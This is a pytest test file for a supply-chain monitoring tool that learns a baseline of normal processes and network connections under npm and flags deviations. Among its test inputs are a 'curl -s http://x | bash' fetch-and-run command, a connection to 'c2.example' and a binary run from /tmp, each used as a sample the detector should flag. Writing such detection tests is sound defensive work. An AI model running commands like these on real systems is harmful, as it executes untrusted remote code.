"""What is normal: entries that people read, the same text for the same entries, and nothing that excepts everything."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.behaviour.baseline import Baseline, Normal, doubts, fits, network, normal_of, parse, place, shape, written
from pratique.model.errors import ConfigurationError
from pratique.model.event import Ancestor, Event, PathClass, Process

HEAD = 'schema = "pratique.baseline/1"\n'


def start(
    executable: str, *words: str, above: str = "npm", path_class: PathClass = "system", script: str = "", path: str = ""
) -> Event:
    process = Process(
        5,
        executable=executable,
        arguments=words,
        script=script,
        ancestors=(Ancestor(4, "", "sh"), Ancestor(3, "", above)),
    )
    return Event(
        "process.start", "connector", 1, 1, process, outcome="done", path=path or executable, path_class=path_class
    )


def reach(address: str, port: int, host: str = "") -> Event:
    process = Process(5, executable="/usr/bin/node", arguments=("node", "x"), ancestors=(Ancestor(3, "", "npm"),))
    return Event("network.connect", "poll", 1, 1, process, outcome="done", address=address, port=port, host=host)


@pytest.mark.parametrize(
    ("event", "wanted"),
    [
        (start("/usr/bin/dash", "sh", "-c", "node-gyp rebuild && echo done"), "sh -c: echo node-gyp"),
        (start("/usr/bin/git", "git", "-c", "x=y", "ls-remote", "https://x.example"), "git"),
        (start("/usr/bin/git", "git", "ls-remote", "https://x.example"), "git ls-remote"),
        (start("/usr/bin/gcc", "gcc", "-c", "/tmp/ccXy12.s"), "gcc"),
        (start("/usr/bin/python3.11", "python3", "-c", "import secrets"), "python -c"),
        (start("/usr/bin/python3.11", "python3", "-m", "venv", "x"), "python -m venv"),
        (
            start("/usr/bin/node", "node", "install.js", script="/home/ann/shop/node_modules/esbuild/install.js"),
            "node node_modules/esbuild/install.js",
        ),
        (
            start("/home/ann/w/node_modules/@e/x/bin/e", "e", path_class="package"),
            "node_modules/@e/x/bin/e",
        ),
        (start("/tmp/pip-install-ab12cd/x/run", "run", path_class="temporary"), "/tmp/*/x/run"),
        (start("/home/ann/.cache/t8f3a9c2d1/x", "x", path_class="other"), "~/.cache/*/x"),
        (start("/usr/bin/dash", "sh", "/home/ann/build.sh", script="/home/ann/build.sh"), "sh ~/build.sh"),
    ],
)
def test_a_shape_keeps_what_is_told_again_and_nothing_else(event: Event, wanted: str) -> None:
    assert shape(event) == wanted


def test_no_argument_that_may_be_a_secret_enters_a_shape() -> None:
    secret = "s3cr3t-of-nobody"
    for event in (
        start("/usr/bin/dash", "sh", "-c", f"deploy --token {secret}"),
        start("/usr/bin/curl", "curl", "-u", f"ann:{secret}", f"https://x/{secret}"),
        start("/usr/bin/npm", "npm", secret),
        start("/usr/bin/python3", "python3", "-c", secret),
    ):
        assert secret not in shape(event)


def test_what_stands_below_no_watched_program_is_not_its_business() -> None:
    assert normal_of(start("/usr/bin/ls", "ls", above="sshd"), "a") is None
    assert normal_of(Event("file.write", "comparison", 1, 1, path="/x"), "a") is None
    failed = start("/usr/bin/ls", "ls")
    assert normal_of(Event("process.start", "connector", 1, 1, failed.process, outcome="failed"), "a") is None


@pytest.mark.parametrize(
    ("address", "wanted"),
    [
        ("8.8.4.4", "8.8.4.0/24"),
        ("127.0.0.1", "localhost"),
        ("::1", "localhost"),
        ("10.1.2.3", "10.1.2.3/32"),
        ("2606:4700::6810:85e5", "2606:4700::/48"),
        ("nonsense", ""),
    ],
)
def test_networks(address: str, wanted: str) -> None:
    assert network(address) == wanted


def test_what_was_learned_is_normal_and_the_rest_deviates() -> None:
    baseline = Baseline()
    assert baseline.learn(start("/usr/bin/dash", "sh", "-c", "node-gyp rebuild"), "ci")
    assert baseline.learn(reach("8.8.4.4", 443), "ci")
    assert baseline.learn(reach("8.8.4.4", 443), "laptop")
    assert baseline.deviation(start("/usr/bin/dash", "sh", "-c", "node-gyp rebuild --x")) is None
    assert baseline.deviation(reach("8.8.4.9", 443)) is None
    assert [entry.count for entry in baseline.entries] == [2, 1]
    assert baseline.entries[0].seen == ("ci", "laptop")
    other = baseline.deviation(start("/usr/bin/dash", "sh", "-c", "curl -s http://x | bash"))
    assert other is not None
    assert (other.rule, other.level) == ("new-child", "low")
    assert "sh -c: bash curl" in other.statement
    dropped = baseline.deviation(start("/tmp/x/ld", "ld", path_class="temporary"))
    assert dropped is not None
    assert dropped.level == "medium"
    for event in (reach("8.8.4.9", 8443), reach("9.9.9.9", 443), reach("", 443, "c2.example")):
        found = baseline.deviation(event)
        assert found is not None
        assert found.rule == "new-destination"


@pytest.mark.parametrize(
    ("entry", "wanted", "fit"),
    [
        (Normal(parent="*", child="gcc"), Normal(parent="npm", child="gcc", place="system"), True),
        (
            Normal(parent="npm", child="gcc", place="temporary"),
            Normal(parent="npm", child="gcc", place="system"),
            False,
        ),
        (Normal(parent="npm", child="node *"), Normal(parent="npm", child="node x.js", place="project"), True),
        (Normal(parent="npm", child="*", host="*.example"), Normal(parent="npm", child="node", host="a.example"), True),
        (Normal(parent="npm", child="*", host="8.8.0.0/16"), Normal(parent="npm", child="x", host="8.8.4.0/24"), True),
        (Normal(parent="npm", child="*", host="8.8.0.0/16"), Normal(parent="npm", child="x", host="2606::/48"), False),
        (
            Normal(parent="npm", child="node", host="a", port=443),
            Normal(parent="npm", child="node", host="a", port=80),
            False,
        ),
        (Normal(parent="npm", child="node", host="a"), Normal(parent="npm", child="node", place="system"), False),
        (Normal(parent="npm", child="node"), Normal(parent="npm", child="node", host="a", port=80), False),
        (Normal(parent="n[pm", child="a+"), Normal(parent="npm", child="aa", place="system"), False),
    ],
)
def test_entries_fit_whole_and_by_stars(entry: Normal, wanted: Normal, fit: bool) -> None:
    assert fits(entry, wanted) is fit


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "names no schema"),
        ('schema = "pratique.baseline/2"', "is of the schema"),
        (HEAD + "[[normal]", "is no TOML"),
        (HEAD + "normal = 3", "normal is no list"),
        (HEAD + "other = 3", "'other'"),
        (HEAD + '[[normal]]\nparent = "npm"', "entry 1 cannot be used"),
        (
            HEAD + '[[normal]]\nparent = "npm"\nchild = "x"\n[[normal]]\nparent = "a"\nchild = 3',
            "entry 2 cannot be used",
        ),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "x"\nplace = "moon"', "entry 1 cannot be used"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "x"\nprot = 3', "prot"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = " "', "empty parent or child"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "*"', "excepts every program"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "*"\nhost = "*"', "excepts every connection"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "x"\nport = 3', "a port and no host"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "x"\nhost = "a"\nport = 70000', "the port 70000"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "x"\nhost = "8.8.4.4/24"', "names no network"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "x"\nhost = "a"\nplace = "system"', "a host and a place"),
        (HEAD + '[[normal]]\nparent = "npm"\nchild = "x"\ncount = -1', "a count below zero"),
    ],
)
def test_a_baseline_that_cannot_be_used_says_where_and_why(text: str, words: str) -> None:
    with pytest.raises(ConfigurationError) as error:
        parse(text, "base.toml")
    assert str(error.value).startswith("base.toml: ")
    assert words in str(error.value)


def test_doubtful_entries_are_named_in_the_text_too() -> None:
    baseline = Baseline(
        [
            Normal(parent="npm", child="/tmp/*/x", place="temporary", count=1),
            Normal(parent="npm", child="sh -c: bash curl", place="system", count=1),
            Normal(parent="npm", child="node", host="203.0.113.0/24", port=8000, count=1),
            Normal(parent="npm", child="node", host="203.0.113.0/24", port=443, count=1),
            Normal(parent="npm", child="gcc", place="system", count=1),
        ]
    )
    assert [entry.child for entry, _ in doubts(baseline)] == ["/tmp/*/x", "node", "sh -c: bash curl"]
    assert written(baseline).count("# look: ") == 3


TEXT = st.text(min_size=1, max_size=30).filter(lambda text: bool(text.strip("* ")) and text.isprintable())
ENTRIES = st.builds(
    Normal,
    parent=TEXT,
    child=TEXT,
    place=st.sampled_from(["system", "temporary", "package"]),
    count=st.integers(0, 1000),
    seen=st.lists(TEXT, max_size=3).map(lambda found: tuple(sorted(set(found)))),
    note=TEXT,
) | st.builds(
    Normal, parent=TEXT, child=TEXT, host=TEXT.filter(lambda text: "/" not in text), port=st.integers(0, 65535)
)


@given(st.lists(ENTRIES, max_size=8))
def test_what_is_written_is_read_again(entries: list[Normal]) -> None:
    baseline = Baseline(entries)
    assert parse(written(baseline), "x").entries == baseline.entries


@given(st.lists(ENTRIES, max_size=5))
def test_order_and_grouping_make_no_difference(entries: list[Normal]) -> None:
    bare = [Normal(parent=one.parent, child=one.child, place=one.place, host=one.host, port=one.port, count=one.count,
                   seen=one.seen) for one in entries]  # fmt: skip
    whole = written(Baseline(bare))
    for order in itertools.islice(itertools.permutations(bare), 6):
        assert written(Baseline(order)) == whole
    halves = Baseline(Baseline(bare[:2]).entries)
    for entry in Baseline(bare[2:]).entries:
        halves.add(entry)
    assert written(halves) == whole


@given(st.text(max_size=80))
def test_any_text_is_a_baseline_or_an_error(text: str) -> None:
    for whole in (text, HEAD + text, HEAD + "[[normal]]\n" + text):
        try:
            parse(whole, "x")
        except ConfigurationError as error:
            assert str(error).startswith("x: ")


@given(st.lists(st.text(max_size=60), min_size=1, max_size=4), st.text(max_size=60), st.text(max_size=60))
def test_any_command_has_a_shape_that_can_be_written(words: list[str], path: str, script: str) -> None:
    for kind in ("system", "other"):
        event = start(path or "/x", *words, path_class=kind, script=script)  # type: ignore[arg-type]  # one of its words
        found = shape(event)
        assert len(found) <= 200
        assert len(place(path)) <= 200
        baseline = Baseline()
        baseline.learn(event, "here")
        assert baseline.deviation(event) is None
        if found.strip("* "):
            assert len(parse(written(baseline), "x").entries) == len(baseline.entries)
